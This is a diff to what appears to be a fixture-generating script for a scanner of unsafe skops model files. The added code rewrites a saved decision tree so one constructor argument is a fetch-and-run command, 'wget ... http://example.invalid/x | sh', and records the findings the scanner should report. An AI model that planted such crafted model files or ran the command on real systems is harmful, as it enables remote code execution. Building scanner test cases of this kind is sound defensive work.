@@ -118,6 +118,24 @@ try:
     sio.dump(Thing(), path)
     expected["skops_objectnode.skops"] = {"exit": 1, "calls": [["__main__.Thing", "untrusted"]],
                                           "why": "skops ObjectNode: cls.__new__(cls) then __setstate__ or __dict__.update"}
+    # Byte surgery on a file skops wrote: the Tree's n_features becomes a
+    # shell command (skops calls Tree(*args) before anything else of it).
+    import io, zipfile
+    from sklearn.tree import DecisionTreeClassifier
+    src = sio.dumps(DecisionTreeClassifier(max_depth=1, random_state=0).fit([[0], [1]], [0, 1]))
+    zin = zipfile.ZipFile(io.BytesIO(src))
+    schema = json.loads(zin.read("schema.json"))
+    args = schema["content"]["content"]["tree_"]["__reduce__"]["args"]["content"]
+    args[0] = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
+               "content": json.dumps("wget -q -O- http://example.invalid/x | sh"), "is_json": True}
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = json.dumps(schema).encode() if info.filename == "schema.json" else zin.read(info.filename)
+            zout.writestr(info.filename, data)
+    write("skops_tree_shell.skops", buf.getvalue(), 4,
+          [["sklearn.tree._tree.Tree", "arguments"], ["sklearn.tree._tree.Tree", "code"]],
+          "skops TreeNode whose n_features is a shell command (schema.json edited, members copied by zipfile)")
 except ImportError as e:
     sys.exit("skops is needed (PYTHONPATH=/work/shared/skops): %s" % e)
 
